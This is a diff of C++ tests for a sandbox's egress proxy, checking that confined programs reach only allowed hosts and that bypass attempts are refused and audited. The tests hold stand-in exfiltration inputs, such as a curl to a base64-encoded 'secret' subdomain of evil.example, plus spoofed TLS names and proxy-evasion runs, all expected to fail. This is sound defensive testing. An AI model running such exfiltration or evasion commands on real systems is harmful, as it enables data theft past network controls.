@@ -35,9 +35,10 @@ class TlsServer {
     // A port that was free a moment ago.
     for (int attempt = 0; attempt < 20 && pid_ == 0; ++attempt) {
       port_ = Server([](egress::test::Peer&) {}).port();
-      std::vector<std::string> command = {"openssl", "s_server", "-accept",
-                                          "127.0.0.1:" + std::to_string(port_), "-key", key,
-                                          "-cert", certificate, "-www", "-quiet"};
+      std::vector<std::string> command = {
+          "openssl", "s_server", "-accept", "127.0.0.1:" + std::to_string(port_),
+          "-key",    key,        "-cert",   certificate,
+          "-www",    "-quiet"};
       command.insert(command.end(), more.begin(), more.end());
       pid_ = start(command);
       if (!answers()) {
@@ -136,10 +137,9 @@ class ConfinedNetwork : public ProcessTest {
   std::vector<AuditRecord> network_records() {
     const std::lock_guard lock(mutex_);
     std::vector<AuditRecord> found;
-    std::copy_if(records_.begin(), records_.end(), std::back_inserter(found),
-                 [](const AuditRecord& record) {
-                   return record.capability == Capability::net_http;
-                 });
+    std::copy_if(
+        records_.begin(), records_.end(), std::back_inserter(found),
+        [](const AuditRecord& record) { return record.capability == Capability::net_http; });
     return found;
   }
 
@@ -160,24 +160,25 @@ TEST_F(ConfinedNetwork, OrdinaryProgramsReachAllowedHosts) {
       policy, "python3",
       {"-c", "import sys, urllib.request as r; print(r.urlopen(sys.argv[1]).read().decode())",
        server_.url("/from/python")});
-  EXPECT_THAT(python.stdout_data, HasSubstr("/from/python")) << python.stderr_data;
+  EXPECT_THAT(python.stdout_data, HasSubstr("you asked for /from/python")) << python.stderr_data;
   if (std::filesystem::exists("/usr/bin/node")) {
     const Result node = behind_proxy(
         policy, "node",
         {"-e",
-         "const p = new URL(process.env.http_proxy); require('http').get({host: p.hostname, port: "
-         "p.port, path: process.argv[1]}, r => r.pipe(process.stdout))",
+         "const proxy = new URL(process.env.http_proxy), url = new URL(process.argv[1]); "
+         "require('http').get({host: proxy.hostname, port: proxy.port, path: url.href, "
+         "headers: {Host: url.host}}, answer => answer.pipe(process.stdout))",
          server_.url("/from/node")});
-    EXPECT_THAT(node.stdout_data, HasSubstr("/from/node")) << node.stderr_data;
+    EXPECT_THAT(node.stdout_data, HasSubstr("you asked for /from/node")) << node.stderr_data;
   }
   // And what a command starts is behind the same proxy.
   const Result child =
       behind_proxy(policy, "sh", {"-c", "curl -sS " + server_.url("/from/a/child")});
-  EXPECT_THAT(child.stdout_data, HasSubstr("/from/a/child"));
+  EXPECT_THAT(child.stdout_data, HasSubstr("you asked for /from/a/child"));
   const auto records = network_records();
   ASSERT_FALSE(records.empty());
   for (const AuditRecord& record : records) {
-    EXPECT_TRUE(record.granted);
+    EXPECT_TRUE(record.granted) << record.resource << ": " << record.reason;
     EXPECT_EQ(record.operation, "proxy.request");
     EXPECT_FALSE(record.run_id.empty());
   }
@@ -198,20 +199,18 @@ TEST_F(ConfinedNetwork, OtherHostsAreRefusedAndReported) {
   ASSERT_EQ(records.size(), 1U);
   EXPECT_FALSE(records[0].granted);
   // By name, where nothing may be looked up: a name can carry data.
-  const Result named =
-      behind_proxy(policy, "curl", {"-sS", "-i", "http://c2VjcmV0.evil.example/"});
+  const Result named = behind_proxy(policy, "curl", {"-sS", "-i", "http://c2VjcmV0.evil.example/"});
   EXPECT_THAT(named.stdout_data, HasSubstr("403"));
   // An environment of the command's own choosing changes nothing.
-  const Result without = behind_proxy(policy, "curl",
-                                      {"-sS", "--noproxy", "*", "--max-time", "5", other.url("/")});
+  const Result without =
+      behind_proxy(policy, "curl", {"-sS", "--noproxy", "*", "--max-time", "5", other.url("/")});
   EXPECT_NE(without.exit_code, 0);
   EXPECT_EQ(other.connections(), 0);
 }
 
 TEST_F(ConfinedNetwork, ThereIsNoOtherWayOut) {
-  const Result result =
-      behind_proxy(network_config({"*", server_.host_and_port()}), hostile(),
-                   {"around_proxy", std::to_string(server_.port())});
+  const Result result = behind_proxy(network_config({"*", server_.host_and_port()}), hostile(),
+                                     {"around_proxy", std::to_string(server_.port())});
   EXPECT_THAT(result.stdout_data,
               AllOf(Not(HasSubstr("ESCAPED")), HasSubstr("refused: the host's loopback"),
                     HasSubstr("refused: UDP:"), HasSubstr("refused: a name lookup"),
@@ -220,8 +219,7 @@ TEST_F(ConfinedNetwork, ThereIsNoOtherWayOut) {
 }
 
 TEST_F(ConfinedNetwork, TheProxyIsNamedInBothSpellings) {
-  const Result result =
-      behind_proxy(network_config({server_.host_and_port()}, {"env"}), "env", {});
+  const Result result = behind_proxy(network_config({server_.host_and_port()}, {"env"}), "env", {});
   for (const char* name :
        {"http_proxy", "https_proxy", "all_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"}) {
     EXPECT_THAT(result.stdout_data, HasSubstr(std::string(name) + "=http://127.0.0.1:3128\n"));
@@ -248,13 +246,13 @@ TEST_F(ConfinedNetwork, HttpsGoesThroughATunnelToItsHostOnly) {
        url});
   EXPECT_THAT(python.stdout_data, HasSubstr("s_server")) << python.stderr_data;
   // The same server under a name that is not the tunnel's.
-  const Result spoofed = behind_proxy(policy, hostile(),
-                                      {"other_name", "localhost:" + tls.port(), "evil.example"});
+  const Result spoofed =
+      behind_proxy(policy, hostile(), {"other_name", "localhost:" + tls.port(), "evil.example"});
   EXPECT_EQ(spoofed.stdout_data, "HTTP/1.1 200\nalert: 1\nanswer: 0\n");
   ASSERT_EQ(spoofed.denials.size(), 1U);
   EXPECT_THAT(spoofed.denials[0].reason, HasSubstr("evil.example"));
-  const Result honest = behind_proxy(policy, hostile(),
-                                     {"other_name", "localhost:" + tls.port(), "localhost"});
+  const Result honest =
+      behind_proxy(policy, hostile(), {"other_name", "localhost:" + tls.port(), "localhost"});
   EXPECT_EQ(honest.denial_count, 0U);
 }
 
@@ -269,9 +267,8 @@ TEST_F(ConfinedNetwork, AServerThatAsksForASecondHelloWorks) {
   EXPECT_EQ(result.denial_count, 0U);
   TlsServer older(folder_, {"-tls1_2"});
   ASSERT_TRUE(older.is_running());
-  const Result old =
-      behind_proxy(network_config({"localhost:" + older.port()}, {"curl"}), "curl",
-                   {"-sSk", "https://localhost:" + older.port() + "/"});
+  const Result old = behind_proxy(network_config({"localhost:" + older.port()}, {"curl"}), "curl",
+                                  {"-sSk", "https://localhost:" + older.port() + "/"});
   EXPECT_THAT(old.stdout_data, HasSubstr("s_server")) << old.stderr_data;
 }
 
@@ -299,29 +296,31 @@ TEST_F(ConfinedNetwork, ConnectionsAreBoundedAndEndWithTheRun) {
   const Result many = behind_proxy(policy, hostile(), {"many_connections", "900"});
   // The listener's queue takes some more than are served; nobody else is kept from anything.
   EXPECT_EQ(many.status, Status::ok);
-  const auto start = std::chrono::steady_clock::now();
-  Server silent([](egress::test::Peer& peer) { peer.pause(std::chrono::seconds(60)); });
-  const Result waiting =
-      behind_proxy(network_config({silent.host_and_port()}, {"curl"}), "curl",
-                   {"-sS", silent.url("/")}, {.timeout = std::chrono::milliseconds(500)});
-  EXPECT_EQ(waiting.status, Status::timeout);
-  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(5));
+  {
+    Server silent([](egress::test::Peer& peer) { peer.pause(std::chrono::seconds(60)); });
+    const auto start = std::chrono::steady_clock::now();
+    const Result waiting =
+        behind_proxy(network_config({silent.host_and_port()}, {"curl"}), "curl",
+                     {"-sS", silent.url("/")}, {.timeout = std::chrono::milliseconds(500)});
+    EXPECT_EQ(waiting.status, Status::timeout);
+    EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(5));
+  }
   expect_nothing_left(before);
 }
 
 TEST_F(ConfinedNetwork, RunsAtOnceHaveEachTheirOwnHosts) {
   Server other{Server::answering(echo)};
   std::vector<std::jthread> threads;
-  for (const Server* mine : std::initializer_list<const Server*>{&server_, &other}) {
+  for (const Server* mine :
+       {static_cast<const Server*>(&server_), static_cast<const Server*>(&other)}) {
     threads.emplace_back([this, mine, &other] {
       const Server& foreign = mine == &server_ ? other : server_;
-      auto sandbox =
-          ProcessSandbox::create(network_config({mine->host_and_port()}, {"sh", "curl"}),
-                                 {.egress = make_egress_server(), .warm_sandboxes = 2});
+      auto sandbox = ProcessSandbox::create(network_config({mine->host_and_port()}, {"sh", "curl"}),
+                                            {.egress = make_egress_server(), .warm_sandboxes = 2});
       ASSERT_TRUE(sandbox);
       for (int round = 0; round < 5; ++round) {
-        const auto result = sandbox->run(
-            "sh", {"-c", "curl -sS " + mine->url("/mine") + "; curl -sSi " + foreign.url("/other")});
+        const auto result = sandbox->run("sh", {"-c", "curl -sS " + mine->url("/mine") +
+                                                          "; curl -sSi " + foreign.url("/other")});
         ASSERT_TRUE(result) << result.error().message;
         EXPECT_THAT(result->stdout_data, AllOf(HasSubstr("you asked for /mine"), HasSubstr(" 403 "),
                                                Not(HasSubstr("you asked for /other"))));
